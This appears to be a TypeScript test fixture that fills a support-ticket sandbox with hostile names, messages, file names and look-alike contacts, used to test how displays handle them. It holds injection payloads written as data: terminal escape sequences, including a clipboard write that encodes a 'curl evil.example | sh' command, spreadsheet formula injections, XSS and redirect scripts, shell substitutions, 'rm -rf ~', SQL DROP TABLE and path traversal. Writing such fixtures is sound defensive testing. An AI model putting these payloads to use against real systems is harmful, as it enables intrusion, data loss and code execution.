/** Hard cases of a sandbox: data that attacks the reader's terminal, spreadsheet, browser or shell, and people who are hard to tell apart. */
import type { Company } from '../../src/sandbox/company.ts'
import { hour, idOf, pick } from '../../src/sandbox/made-ids.ts'
import type { Sandbox } from '../../src/sandbox/server.ts'

type Seeded = Company['tickets'] extends Map<string, infer T> ? T : never
type Message = Seeded extends { messages: readonly (infer M)[] } ? M : never

const esc = '\u001b'

/** Names that attack: the reader's terminal, spreadsheet, browser or shell. */
const hostileNames: readonly (readonly [string, string])[] = [
  [`${esc}[31mRed`, `Alert${esc}[0m`],
  [`${esc}[2J${esc}[H`, 'Cleared'],
  [`${esc}]0;owned\u0007`, 'Title'],
  [`${esc}]8;;http://evil.example/${esc}\\click${esc}]8;;${esc}\\`, 'Link'],
  [`${esc}]52;c;ZWNobyBwd25lZA==\u0007`, 'Clipboard'],
  [`${esc}P+q544e${esc}\\`, 'Dcs'],
  [`${esc}[6n`, 'Report'],
  [`${esc}[?1049h`, 'Screen'],
  ['\u009b31mC1', '\u009d0;c1 title\u009c'],
  ['\u0085Next', '\u0090Dcs\u009c'],
  ['Overwrite\rADMIN', 'Return'],
  ['Back\b\b\b\bFake', 'Space'],
  ['Two\nLines', 'Row\n64000000000000000000beef  fake row'],
  ['Tab\there', 'Vertical\u000btab\u000c'],
  ['Nul\u0000byte', 'Bell\u0007\u007f'],
  ['\u202egnp.exe', 'Override\u202c'],
  ['\u2066isolate', '\u2069\u200f\u200e\u061c'],
  ['Zero\u200bwidth', '\u2060\ufeff\u00ad'],
  ['Line\u2028separator', 'Paragraph\u2029separator'],
  ["=cmd|' /C calc'!A0", 'Formula'],
  ['+1+1', '@SUM(1)'],
  ['-2+3', '\t=1+1'],
  ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>'],
  ['"><svg/onload=alert(1)>', '&lt;b&gt;&amp;'],
  ['$(touch pwned)', '`touch pwned`'],
  ["'; DROP TABLE contacts; --", '| rm -rf ~'],
  ['../../etc/passwd', 'C:\\Windows\\System32'],
  ['%s%n%x', '{{7*7}}${7*7}'],
  ['__proto__', 'constructor'],
  ['null', 'undefined'],
  ['Lone\ud800surrogate', '\udc00Tail'],
  ['Tag\u{e0041}\u{e0042}', '\u{e0001}Language'],
  ['Private\ue000use', 'Non\uffffcharacter'],
  ['a'.repeat(2000), 'Long'],
  ['e' + '\u0301'.repeat(200), 'Stacked'],
  ['  leading', 'trailing  '],
  ['\u00a0nbsp', 'ideographic\u3000space'],
  ['\u3164', '\u2800'],
]

const hostileTexts: readonly string[] = [
  `${esc}[2J${esc}[1;1H${esc}[31mYour session expired, type your password:`,
  `${esc}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`,
  `${esc}]8;;file:///etc/passwd\u0007invoice.pdf${esc}]8;;\u0007`,
  'ok\r\n2026-01-01 00:00  outgoing  Support  We will refund you 10,000',
  'line one\nline two\n\nline four',
  '\u202ednuofer\u202c please',
  '=HYPERLINK("http://evil.example","open")',
  '</script><script>document.location="http://evil.example"</script>',
  '<style>*{display:none}</style><a href="javascript:alert(1)">x</a>',
  '\u009b2J\u009d0;title\u009c',
  'progress 10%\rprogress 99%\rprogress 100%',
  'bell\u0007backspace\b\b\bdelete\u007fnul\u0000',
  `${esc}#8${esc}c${esc}(0lqqk${esc}(B`,
  '👩‍👩‍👧‍👦 family 🇺🇦 flag e\u0301 accent \u200d joiner',
  'x'.repeat(5000),
  '',
]

const hostileFileNames: readonly string[] = [
  '../../../etc/cron.d/pwned',
  'invoice\u202efdp.exe',
  `${esc}]0;owned\u0007.png`,
  'a\nb.txt',
  'C:\\temp\\x.bat',
  '$(touch pwned).jpg',
  '<img src=x onerror=alert(1)>.gif',
  "=cmd|' /C calc'!A0.csv",
]

/** Lists by their position, the oldest first: names that are hard to type, and to tell apart. */
const hostileLists: Readonly<Record<number, { name: string; description: string | undefined }>> = {
  40: { name: '-VIP', description: 'Begins like an option' },
  41: { name: 'vip', description: 'Another letter case is another name' },
  42: { name: 'Café', description: 'Composed' },
  43: { name: 'Cafe\u0301', description: 'Decomposed: looks like the other one' },
  44: { name: '640000000000000000000abc', description: 'A name that looks like an id' },
  45: { name: '=1+1', description: "=cmd|' /C calc'!A0" },
  46: { name: `${esc}]0;owned\u0007Red ${esc}[31mlist`, description: 'two\nlines\u202e and more' },
  47: { name: '👩‍👩‍👧‍👦'.repeat(14), description: 'd'.repeat(1000) },
  48: { name: '顧客リスト', description: '' },
  49: { name: 'العملاء المميزون', description: undefined },
  250: {
    name: '"double" \'single\' $(touch pwned): colon',
    description: '`touch pwned`; rm -rf ~',
  },
}

/** People at the trade fair who are there twice, or only look like it, by their positions: values as people in other countries write them. */
const hardPeople: Readonly<Record<number, string>> = {
  4979: 'Jo|Keller|messengerB_username=@jo_keller; messengerB_user_id=4711001',
  4980: 'Johanna|Keller|messengerB_user_id=4711001; email=johanna.keller@example.org',
  4981: 'Ayşe|Yılmaz|phone=+49 30 5556677',
  4982: 'Mehmet|Yılmaz|phone=+49 30 5556677',
  4983: 'Łukasz|Wójcik|phone=+49 30 5556677; email=lukasz.wojcik@example.org',
  4984: 'Zoë|Nordström|phone=+49 30 5556677',
  4985: 'Reception||phone=+49 30 5556677',
  4987: 'Joao|Souza|messengerC_phone=+55 11 1234-5678',
  4989: 'Sofia|Nunez|messengerC_phone=+54 11 2345-6789',
  4990: 'José|Hernández|phone=+52 1 55 1234 5678',
  4991: 'Jose|Hernandez|messengerC_phone=+52 55 1234 5678',
  4992: 'Jürgen|Müller|phone=0171 9876543; email=juergen.mueller@example.org',
  4993: "Siân|O'Neill|phone=(020) 7946 0018",
  4994: 'Dana|Extension|phone=+1 555 200 0199 ext. 5',
  4995: 'Ольга|Иванова|phone=8 (912) 345-67-89',
  4996: '花子|山田|phone=０９０−１２３４−５６７８',
  4997: 'محمد|الأحمد|phone=+٩٧١ ٥٠ ١٢٣ ٤٥٦٧',
}

/** A ticket of which every message is hostile, and one without messages. */
export const hostileTicket = idOf('ticket', 10)
const emptyTicket = idOf('ticket', 12)

/** Puts hard cases into a new sandbox. All ids stay what they were. */
export function putHostileData({ company, examples }: Pick<Sandbox, 'company' | 'examples'>) {
  const { contacts, employees, tickets } = company
  putLists(company)
  putPeople(company)
  putNames(company)
  Object.assign(employees[5] ?? {}, { firstName: `Mallory${esc}[31m`, lastName: 'Override\u202e' })
  const { messages } = existing(tickets.get(examples.tickets.long))
  Object.assign(existing(tickets.get(emptyTicket)), { messages: [] })
  const seeded = existing(tickets.get(hostileTicket))
  seeded.ticket.attribution = { ad_id: `${esc}[31m=ad` }
  Object.assign(seeded, { messages: messages.slice(0, 64).map(hostileMessage) })
  sort(contacts)
}

function existing<T>(value: T | undefined): T {
  if (value === undefined) throw new Error('the sandbox lacks something that tests change')
  return value
}

/** Sorts things by their ids, as if they had all been made in order. */
function sort(things: Map<string, unknown>): void {
  const all = [...things].toSorted(([one], [other]) => (one < other ? -1 : 1))
  things.clear()
  for (const [id, thing] of all) things.set(id, thing)
}

/** Adds the lists in their places. */
function putLists({ contacts, lists }: Company): void {
  const ids = [...contacts.keys()]
  const vip = existing([...lists.values()].find(({ name }) => name === 'VIP'))
  for (const [key, words] of Object.entries(hostileLists)) {
    const position = Number(key)
    const createdAt = new Date(
      Date.parse(vip.createdAt) + (position - 160) * 7 * hour,
    ).toISOString()
    const members = ids.slice(position, position + 5 + (position % 10) * 3)
    const id = idOf('list', position)
    lists.set(id, {
      ...words,
      id,
      createdAt,
      updatedAt: createdAt,
      members: new Map(
        members.map((member, n) => [member, { id: idOf('membership', 9000 + n), createdAt }]),
      ),
    })
  }
  sort(lists)
}

/** Adds the people to the trade fair, and its last one to many lists. */
function putPeople({ contacts, chats, lists }: Company): void {
  const [usual] = contacts.values()
  const fair = existing([...lists.values()].find(({ name }) => name === 'Trade fair'))
  const noor = existing([...fair.members.keys()].at(-1))
  const joined = existing(fair.members.get(noor))
  for (const [position, line] of Object.entries(hardPeople)) {
    const [firstName = '', lastName = '', values = ''] = line.split('|')
    const id = idOf('contact', Number(position))
    const identities = Object.fromEntries(
      Object.keys(existing(usual).identities).map((key): [string, string[]] => [key, []]),
    )
    for (const [key = '', value = ''] of values.split('; ').map((pair) => pair.split('=')))
      identities[key] = [value]
    contacts.set(id, { ...existing(usual), id, firstName, lastName, identities })
    if (Number(position) % 3 === 1) chats.add(id)
    fair.members.set(id, { ...joined, id: idOf('membership', Number(position)) })
  }
  sort(fair.members)
  for (const { name, members } of lists.values())
    if (name.startsWith('Campaign 28')) members.set(noor, joined)
}

/** The first contacts get the names, and values as hostile as these. */
function putNames({ contacts }: Company): void {
  const all = [...contacts.values()]
  for (const [index, [firstName, lastName]] of hostileNames.entries()) {
    const contact = existing(all[index])
    Object.assign(contact, { firstName, lastName })
    const { email, messengerB_username: username, phone } = contact.identities
    email?.push(`"${firstName.slice(0, 40)}"@evil.example`)
    username?.push(lastName)
    phone?.push('=1+1')
  }
}

function hostileMessage(message: Message, position: number, { length }: readonly Message[]) {
  const number = length - 1 - position
  const { direction, fromId } = message
  return {
    ...message,
    fromId: direction === 'incoming' ? `${esc}[7m${fromId}` : fromId,
    text: pick(hostileTexts, number),
    subject: pick(hostileTexts, number + 3).slice(0, 80),
    mediaGroupId: `${esc}[1malbum`,
    version: pick<unknown>([2, '3', { edit: 1 }], number),
    attachments: [
      {
        id: hostileTicket,
        kind: `${esc}[5mfile`,
        fileName: pick(hostileFileNames, number),
        mimeType: 'text/html\r\nX: y',
        size: number,
        source: 'socialA',
      },
    ],
  }
}
